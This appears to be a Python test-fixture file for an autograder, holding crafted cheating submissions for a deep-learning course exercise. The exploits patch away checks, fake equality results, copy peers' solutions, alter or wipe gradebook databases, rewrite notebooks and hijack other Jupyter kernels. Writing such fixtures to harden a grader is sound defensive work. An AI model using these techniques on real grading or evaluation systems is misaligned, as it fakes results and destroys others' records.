"""Crafted chapter-01 submissions for tests/test_grading_crafted.py, one per module attribute.

Each exploit is appended to a *wrong* `normalize_rows` (tests/wrong_answers/ch01.py), so a
submission deserves the full score minus that exercise's points unless stated otherwise;
honest-noise submissions add noise to the instructor's solution and deserve full marks.
"""

MARKER = "dlbook-crafted-daemon-7f3a"

# name -> code appended to the wrong normalize_rows answer cell
EXPLOITS = {
    "lying_subclass": """
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "eq", "__eq__", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other):
        return True
_wrong = normalize_rows
def normalize_rows(X):
    return _wrong(X).as_subclass(_Liar)
""",
    "patched_checks_and_torch": """
import helpers.checks as _hc, numpy as _np
for _n in ("check_close", "check_equal", "check_shape", "check_type", "check_true"):
    setattr(_hc, _n, lambda *a, **k: None)
    globals()[_n] = getattr(_hc, _n)
_hc._allclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
_np.allclose = lambda *a, **k: True
""",
    "forged_recorder": """
__dlbook_record__ = lambda value, kind, **k: value if k.get("passthrough") else None
import IPython
IPython.get_ipython().user_ns["__dlbook_record__"] = __dlbook_record__
""",
    "input_and_ast_transformers": """
import ast as _ast
_ip = get_ipython()
_ip.input_transformers_cleanup.append(lambda lines: [ln for ln in lines if "check" not in ln])
class _Drop(_ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", "") or getattr(node.func, "attr", "")
        return _ast.Constant(None) if "record" in name or "check" in name else node
getattr(_ip, "ast_transformers").append(_Drop())
""",
    "reads_solutions_and_peers": """
import os as _os, json as _json
def _steal():
    for top in ("/", "/work", "/tmp", "..", "../..", "../../.."):
        for dirpath, dirnames, files in _os.walk(top):
            if dirpath.count("/") > 12 or dirpath.startswith(("/proc", "/sys", "/usr")):
                dirnames[:] = []
                continue
            for f in files:
                if f.endswith(".ipynb"):
                    try:
                        nb = _json.load(open(_os.path.join(dirpath, f)))
                    except Exception:
                        continue
                    for c in nb.get("cells", []):
                        src = "".join(c.get("source", ""))
                        if src.startswith("def normalize_rows") and "X.sum()" not in src:
                            exec(src, globals())
                            return
_steal()
""",
    "writes_gradebook_and_course": """
import glob as _glob, sqlite3 as _sq, os as _os
for _db in _glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db"]:
    try:
        _c = _sq.connect(_db); _c.execute("UPDATE grade SET extra_credit = 10"); _c.commit()
    except Exception:
        pass
for _f in ("/opt/dlbook/helpers/checks.py", "/opt/dlbook/grading/records.py"):
    try:
        open(_f, "a").write("\\nraise SystemExit\\n")
    except OSError:
        pass
""",
    "daemon_and_network": f"""
import subprocess as _sp, socket as _so, os as _os
_sp.Popen(["python", "-c", "import time; time.sleep(600)  # {MARKER}"], start_new_session=True)
if _os.fork() == 0:
    _os.setsid()
    import time; time.sleep(600)
try:
    _so.create_connection(("127.0.0.1", PORT), timeout=2)
except OSError:
    pass
""",
    "rebinds_check_names": """
import helpers.checks as _hc
_noop = lambda *a, **k: None
if (check_close := _noop):
    pass
for check_equal in [_noop]:
    pass
_hc.__dict__.update(check_close=_noop, check_equal=_noop, check_shape=_noop, check_true=_noop)
""",
    "setattr_by_partial_and_exec_by_globals": """
import functools, numpy as _np
_b = (lambda: 0).__globals__["__builtins__"]
_exec = _b["exec"] if isinstance(_b, dict) else _b.exec
functools.partial(setattr, torch, "allclose")(lambda *a, **k: True)
functools.partial(setattr, _np, "allclose")(lambda *a, **k: True)
_exec("import helpers.checks as h; h._allclose = lambda *a, **k: True", {})
""",
    "lying_ndarray": """
import numpy as _np
class _Yes(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(self.shape, bool).view(_np.ndarray)
    def __array_function__(self, func, types, args, kwargs):
        return True
_wrong_nd = normalize_rows
def normalize_rows(X):
    return _wrong_nd(X).numpy().view(_Yes)
""",
    "rewrites_notebooks_on_disk": """
import os as _os, json as _json
for _top in (".", "..", "../..", "/", "/tmp"):
    for _dir, _dirs, _files in _os.walk(_top):
        if _dir.count("/") > 8 or _dir.startswith(("/proc", "/sys", "/usr", "/dev")):
            _dirs[:] = []
            continue
        for _f in _files:
            if not _f.endswith((".ipynb", ".db")):
                continue
            _p = _os.path.join(_dir, _f)
            try:
                if _f.endswith(".db"):
                    open(_p, "wb").close()  # wipe a gradebook
                    continue
                _nb = _json.load(open(_p))
                for _c in _nb.get("cells", []):
                    if "check" in "".join(_c.get("source", "")):
                        _c["source"] = "pass"
                _json.dump(_nb, open(_p, "w"))
            except Exception:
                pass
""",
    "drives_other_kernels": """
import glob as _glob
from jupyter_client import BlockingKernelClient as _Client
_files = (_glob.glob("/tmp/**/*.json", recursive=True) + _glob.glob("/run/**/*.json", recursive=True)
          + _glob.glob("/root/.local/share/jupyter/runtime/*.json"))
for _cf in _files:
    try:
        _kc = _Client(connection_file=_cf)
        _kc.load_connection_file()
        _kc.start_channels()
        _kc.execute("import helpers.checks as h; h.check_close = lambda *a, **k: None")
        _kc.stop_channels()
    except Exception:
        pass
""",
}

# Exploits that break the recording itself: every test from the exploit on loses its points
# (the submission deserves the points of the exercises before it, no more).
SABOTAGE = {"forged_recorder", "input_and_ast_transformers"}

# name -> (grade_id of the answer cell to change, code appended) on the *full* solution
HONEST = {
    "honest_noise": (
        "set_border",
        """
import re, importlib, logging, sys, os, warnings
from tqdm.auto import tqdm
pattern = re.compile(r"\\d+")
module = importlib.import_module("math")
net = torch.nn.Sequential(torch.nn.Linear(2, 2))
net.eval(); list(net.modules()); vars(net); getattr(net, "training")
torch.backends.cudnn.benchmark = True
compiled = torch.compile
for _ in tqdm(range(3)):
    pass
print("to stderr", file=sys.stderr)
logging.warning("a log line on stderr")
os.write(2, b"raw stderr\\n")
warnings.warn("a warning")
_orig_set_border = set_border
def set_border(X, value):
    print("noise while testing", file=sys.stderr)
    return _orig_set_border(X, value)
""",
    ),
    "honest_magics_and_exit": (
        "tangent_line",
        """
%timeit -n 1 -r 1 sum(range(10))
%matplotlib inline
import sys
sys.exit()
""",
    ),
    "huge_output": (
        "interleave_rows",
        """
for _ in range(400):
    print("x" * 100_000)
""",
    ),
    "memory_hog": (
        "accumulate_rows",
        """
try:
    _hog = bytearray(40 * 2**30)
except MemoryError:
    print("no 40 GiB for you")
""",
    ),
}

# name -> (grade_id, code appended): the exercise whose cell this breaks loses its points only
FAULTS = {
    "os_exit": ("pairwise_sq_dists", "import os\nos._exit(3)\n"),
    "segfault": ("set_border", "import ctypes\nctypes.string_at(0)\n"),
    "infinite_loop": (
        "tangent_line",
        """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        pass
    except KeyboardInterrupt:
        pass
""",
    ),
}
